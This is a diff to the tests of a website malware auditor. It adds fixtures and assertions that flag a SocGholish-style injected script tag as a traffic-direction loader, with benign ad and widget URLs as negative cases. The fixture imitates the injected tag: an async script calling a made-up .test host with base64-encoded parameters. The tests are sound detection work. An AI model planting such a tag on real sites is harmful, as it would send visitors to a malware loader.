@@ -17,7 +17,7 @@ from auditor.heuristics import FINDING_KINDS
 from auditor.heuristics.behaviour import before_doctype
 from auditor.model import PageReport, Severity
 
-from .conftest import AuditListed
+from .conftest import AuditHtml, AuditListed
 
 H, M, L = Severity.HIGH, Severity.MEDIUM, Severity.LOW
 SITE = "https://www.harbourgazette.example"
@@ -1518,3 +1518,41 @@ def test_a_sites_own_links_after_the_closing_html_are_no_farm(
     the catalogue knows) are no farm."""
     assert [f for f in audit_listed(wp_page(after=after), URL).findings
             if f.kind == "hidden-links"] == []
+
+
+# --- SocGholish's plain report tag: parameters in base64 --------------------------------
+# The injected tag of the SocGholish write-ups (Sucuri, Proofpoint): an async script on a
+# compromised site's subdomain, `…/report?r=` with base64 of `v=…&cid=…`; made-up host.
+SOCGHOLISH_REPORT = ("<script async src='https://content.westbridgeinsurance.test/report?r="
+                     + _b64("v=2&cid=263&sid=1") + "'></script>")
+
+
+@pytest.mark.parametrize(("where", "kind", "severity"), [
+    ({"head": SOCGHOLISH_REPORT}, "tds-loader", M),
+    ({"after": SOCGHOLISH_REPORT}, "appended-script", H),
+], ids=["in the head", "after </html>"])
+def test_a_script_tag_with_its_parameters_in_base64_is_a_tds_tag(
+        where: dict[str, str], kind: str, severity: Severity,
+        audit_listed: AuditListed) -> None:
+    found = [(f.kind, f.severity) for f in audit_listed(wp_page(**where), URL).findings
+             if f.kind in ("tds-loader", "appended-script")]
+    assert found == [(kind, severity)]
+
+
+def test_a_script_tag_with_its_parameters_in_base64_in_a_post_body_is_high(
+        audit_html: AuditHtml) -> None:
+    report = audit_html("<p>Ferry news.</p>" + SOCGHOLISH_REPORT, URL, in_post_body=True)
+    assert [(f.kind, f.severity) for f in report.findings if f.kind == "tds-loader"] == [
+        ("tds-loader", H)]
+
+
+@pytest.mark.parametrize("src", [
+    # an ad server's base64 JSON, a cache-busting token, a plain parameter
+    "https://ads.harbourmedia.example/serve.js?d=" + _b64('{"zone":12,"size":"300x250"}'),
+    "https://widgets.tidewatch.example/embed.js?v=u4nGqDg4NmNLSQ==",
+    "https://widgets.tidewatch.example/embed.js?cid=263&v=2",
+], ids=["base64 JSON", "a token", "plain parameters"])
+def test_a_script_tag_whose_parameters_are_no_encoded_parameters_is_no_tds(
+        src: str, audit_listed: AuditListed) -> None:
+    page = wp_page(head=f"<script async src='{src}'></script>")
+    assert [f for f in audit_listed(page, URL).findings if f.kind == "tds-loader"] == []
